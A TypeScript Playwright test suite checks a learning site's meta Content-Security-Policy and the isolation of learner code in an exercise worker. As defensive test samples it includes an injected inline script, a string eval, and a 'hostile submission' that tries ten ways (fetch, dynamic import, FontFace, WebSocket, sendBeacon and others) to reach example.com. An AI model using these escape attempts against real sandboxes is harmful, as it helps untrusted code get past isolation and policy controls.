/**
 * The site's Content-Security-Policy on a host that sends no headers: `astro preview` ignores
 * public/_headers, as GitHub Pages does, so every rule here comes from the <meta> policy each page
 * sets itself. Every kind of page carries it, breaks none of it and still works; the policy does
 * block what it should; and learner code in the exercise worker (whose script gets no policy from
 * this host) makes no request to any other host.
 */
import { readFileSync } from 'node:fs';
import type { Browser, BrowserContext, Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { baseUrl, expectedSummary, launchBrowser, openPage, replaceCode, runAndWait, type PageProblems } from './browser';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

const EXERCISE = '/exercises/semaphore-bulkhead/';
const solution = readFileSync('exercises/02-semaphore-bulkhead/solution/bulkhead.ts', 'utf8');

/** True for a request that goes over the network to a host other than this machine. */
function leavesMachine(url: string): boolean {
  const { protocol, hostname } = new URL(url);
  if (!['http:', 'https:', 'ws:', 'wss:'].includes(protocol)) return false;
  return !['127.0.0.1', 'localhost', '[::1]'].includes(hostname);
}

/** A request as the report shows it: type and URL (the URL names where in the learner code it started). */
const describeRequest = (request: Request) => `${request.resourceType()} ${request.url()}`;

/**
 * A context that records every request it makes (pages, frames and workers alike) and every
 * `securitypolicyviolation` event in its pages. Requests that would leave the machine are recorded,
 * then aborted, so a test never reaches a real host. `left()` lists the requests to other hosts
 * that the browser sent: Playwright reports a worker's request even when the worker's own policy
 * then blocks it (measured: such a request fails with "csp" and never reaches the network), so
 * only those are left out.
 */
async function watchedContext(): Promise<{ context: BrowserContext; requests: Request[]; left: () => string[] }> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  const requests: Request[] = [];
  const blockedByPolicy = new Set<Request>();
  context.on('request', (request) => requests.push(request));
  context.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') blockedByPolicy.add(request);
  });
  await context.route((url) => leavesMachine(url.href), (route) => route.abort());
  await context.addInitScript(() => {
    const violations: string[] = [];
    (window as unknown as { cspViolations: string[] }).cspViolations = violations;
    document.addEventListener('securitypolicyviolation', (event) => {
      violations.push(`${event.effectiveDirective} blocked ${event.blockedURI || '(inline)'} at ${event.sourceFile}:${event.lineNumber}`);
    });
  });
  const left = () => [...new Set(requests.filter((request) => leavesMachine(request.url()) && !blockedByPolicy.has(request)).map(describeRequest))];
  return { context, requests, left };
}

const violationsIn = (page: Page) => page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);

/** The page's <meta> policy, checked for the directives the site relies on. */
async function expectMetaPolicy(page: Page): Promise<void> {
  const policy = (await page.locator('meta[http-equiv="content-security-policy" i]').getAttribute('content')) ?? '';
  const directives = new Map(
    policy
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .filter((words) => words[0])
      .map(([name = '', ...values]) => [name, values]),
  );
  expect(directives.get('default-src')).toEqual(["'self'"]);
  expect(directives.get('connect-src')).toEqual(["'self'"]);
  expect(directives.get('object-src')).toEqual(["'none'"]);
  expect(directives.get('frame-src')).toEqual(['https://stackblitz.com']);
  const scripts = directives.get('script-src') ?? [];
  expect(scripts[0]).toBe("'self'");
  expect(scripts.slice(1).every((source) => source.startsWith("'sha256-"))).toBe(true);
}

/** Opens a page with the watchers on and checks that this host sent no policy of its own. */
async function open(context: BrowserContext, path: string): Promise<{ page: Page; problems: PageProblems }> {
  const response = await fetch(`${baseUrl()}${path}`);
  expect(response.headers.get('content-security-policy')).toBeNull();
  const opened = await openPage(context, path);
  await expectMetaPolicy(opened.page);
  return opened;
}

async function expectClean(page: Page, problems: PageProblems): Promise<void> {
  expect(await violationsIn(page)).toEqual([]);
  expect(problems.consoleErrors).toEqual([]);
  expect(problems.failedRequests).toEqual([]);
}

describe('every kind of page carries its own policy, breaks none of it, and still works', () => {
  test('home page', async () => {
    const { context } = await watchedContext();
    try {
      const { page, problems } = await open(context, '/');
      await page.getByRole('button', { name: 'Dark theme' }).click();
      await expect.poll(() => page.evaluate(() => document.documentElement.dataset['theme'])).toBe('dark');
      await expectClean(page, problems);
    } finally {
      await context.close();
    }
  });

  test('a lesson shows its diagram, drawn at build time, in both themes', async () => {
    const { context } = await watchedContext();
    try {
      const { page, problems } = await open(context, '/learn/intuition/shared-fate/');
      const box = page.locator('[data-diagram] svg[role="img"] .node rect').first();
      const fill = () => box.evaluate((element) => getComputedStyle(element).fill);
      const light = await fill();
      await page.getByRole('button', { name: 'Dark theme' }).click();
      await expect.poll(fill).not.toBe(light);
      await expectClean(page, problems);
    } finally {
      await context.close();
    }
  });

  test('the simulator runs in its worker', async () => {
    const { context } = await watchedContext();
    try {
      const { page, problems } = await open(context, '/simulator/?preset=slow-search&speed=50');
      const sim = page.locator('[data-pool-simulator]');
      await sim.scrollIntoViewIfNeeded();
      await expect.poll(() => sim.getAttribute('data-status'), { timeout: 30_000 }).toBe('ready');
      await sim.getByRole('button', { name: 'Play' }).click();
      await expect.poll(() => sim.locator('.psim-clock').textContent(), { timeout: 60_000, interval: 250 }).toContain('Run complete');
      expect(await sim.locator('[data-summary]').textContent()).toContain('Checkout');
      await expectClean(page, problems);
    } finally {
      await context.close();
    }
  });

  test('a calculator hydrates and recomputes', async () => {
    const { context } = await watchedContext();
    try {
      const { page, problems } = await open(context, '/tools/sizing/');
      await page.waitForFunction(() => document.querySelectorAll('astro-island[ssr]').length === 0, null, { timeout: 30_000 });
      const headline = () => page.locator('[data-calc-headline]').first().textContent();
      const before = await headline();
      await page.getByLabel('Arrival rate (req/s)', { exact: true }).fill('300');
      await expect.poll(headline, { timeout: 20_000 }).not.toBe(before);
      await expectClean(page, problems);
    } finally {
      await context.close();
    }
  });

  test('an exercise page may frame StackBlitz, then runs the tests in its worker', async () => {
    const { context, requests } = await watchedContext();
    try {
      const { page, problems } = await open(context, EXERCISE);
      await page.locator('.code-editor[data-ready="true"]').waitFor();
      expect(await runAndWait(page)).toBe(await expectedSummary('02-semaphore-bulkhead'));
      // The WebContainer's frame was allowed to load (here it fails: the route aborts it), and the worker took over.
      await expect.poll(() => requests.map((request) => request.url()).filter((url) => url.startsWith('https://stackblitz.com/headless')).length, { timeout: 10_000 }).toBe(1);
      expect(await page.locator('[data-runner-line]').textContent()).toContain('Web Worker');
      await replaceCode(page, solution);
      expect(await runAndWait(page)).toMatch(/^(\d+) of \1 tests passed\. All tests pass!$/);
      await expectClean(page, problems);
    } finally {
      await context.close();
    }
  });

  test('search results come from Pagefind', async () => {
    const { context } = await watchedContext();
    try {
      const { page, problems } = await open(context, '/search/?q=compartment');
      await page.locator('[data-search-page] [data-search-results] a').first().waitFor({ timeout: 15_000 });
      expect(await page.locator('[data-search-page] [data-search-results] li').count()).toBeGreaterThan(0);
      await expectClean(page, problems);
    } finally {
      await context.close();
    }
  });
});

describe('the policy holds', () => {
  test('an injected inline script, eval and a request to another host are all refused', async () => {
    const { context, left } = await watchedContext();
    try {
      const { page } = await open(context, '/');
      const outcome = await page.evaluate(async () => {
        const script = document.createElement('script');
        script.textContent = 'window.injected = true;';
        document.head.append(script);
        // A string for setTimeout is eval; it runs later, as the page's own code (code run through
        // the DevTools protocol, as page.evaluate is, may eval whatever the policy says).
        const timer = setTimeout as unknown as (code: string, ms: number) => number;
        timer('window.evaluated = true;', 0);
        await new Promise((resolve) => setTimeout(resolve, 200));
        const fetched = await fetch('https://example.com/from-page').then(
          () => true,
          () => false,
        );
        const flags = window as unknown as { injected?: boolean; evaluated?: boolean };
        return { injected: flags.injected === true, evaluated: flags.evaluated === true, fetched };
      });
      expect(outcome).toEqual({ injected: false, evaluated: false, fetched: false });
      const violations = (await violationsIn(page)).join('\n');
      expect(violations).toContain('script-src-elem blocked inline');
      expect(violations).toContain('script-src blocked eval');
      expect(violations).toContain('connect-src blocked https://example.com/from-page');
      expect(left()).toEqual([]);
    } finally {
      await context.close();
    }
  });
});

/**
 * A submission that tries every way out it can think of, once while its module loads and once in
 * Bulkhead.run (which the tests call). Each URL names the attempt and where it ran.
 */
function hostileSubmission(): string {
  const attempts = `
const NETWORK_TRIES: Array<[string, (where: string) => unknown]> = [
  ['fetch', (where) => (globalThis as any).fetch('https://example.com/fetch-' + where)],
  ['import', (where) => new Function("return import('https://example.com/import-" + where + ".js')")()],
  ['font', (where) => new (globalThis as any).FontFace('x', 'url(https://example.com/font-' + where + '.woff)').load()],
  ['image', (where) => { const image = new (globalThis as any).Image(); image.src = 'https://example.com/image-' + where + '.png'; }],
  ['xhr', (where) => { const xhr = new (globalThis as any).XMLHttpRequest(); xhr.open('GET', 'https://example.com/xhr-' + where); xhr.send(); }],
  ['websocket', (where) => new (globalThis as any).WebSocket('wss://example.com/ws-' + where)],
  ['eventsource', (where) => new (globalThis as any).EventSource('https://example.com/events-' + where)],
  ['beacon', (where) => (globalThis as any).navigator.sendBeacon('https://example.com/beacon-' + where)],
  ['worker', (where) => new (globalThis as any).Worker('https://example.com/worker-' + where + '.js')],
  ['constructor', (where) => (() => 0).constructor("return import('https://example.com/constructor-" + where + ".js')")()],
];

function tryNetwork(where: string): void {
  for (const [, attempt] of NETWORK_TRIES) {
    try {
      const result = attempt(where) as { then?: (ok: () => void, fail: () => void) => void } | undefined;
      if (result && typeof result.then === 'function') result.then(() => undefined, () => undefined);
    } catch {
      // Refused: the next try.
    }
  }
}

tryNetwork('top-level');
`;
  const inRun = solution.replace('async run<T>(fn: () => Promise<T> | T): Promise<T> {', "async run<T>(fn: () => Promise<T> | T): Promise<T> {\n    tryNetwork('in-run');");
  expect(inRun).toContain("tryNetwork('in-run')");
  return `${attempts}\n${inRun}`;
}

describe('learner code in the exercise worker', () => {
  test('makes no request to any host but this one', async () => {
    const { context, left } = await watchedContext();
    try {
      // Straight to the worker: this test is about what the learner's code can reach.
      await context.addInitScript(() => sessionStorage.setItem('bulkhead-lab:webcontainer-unavailable', 'skipped by the test'));
      const { page } = await open(context, EXERCISE);
      await page.locator('.code-editor[data-ready="true"]').waitFor();
      await replaceCode(page, hostileSubmission());
      const summary = await runAndWait(page);
      // Give late promises (font loads, imports) time to issue their requests.
      await page.waitForTimeout(1_500);
      expect(await page.locator('[data-runner-line]').textContent()).toContain('Web Worker');
      expect(summary).toMatch(/tests passed|Run stopped/);
      expect(left(), `requests that left the machine (summary: ${summary})`).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
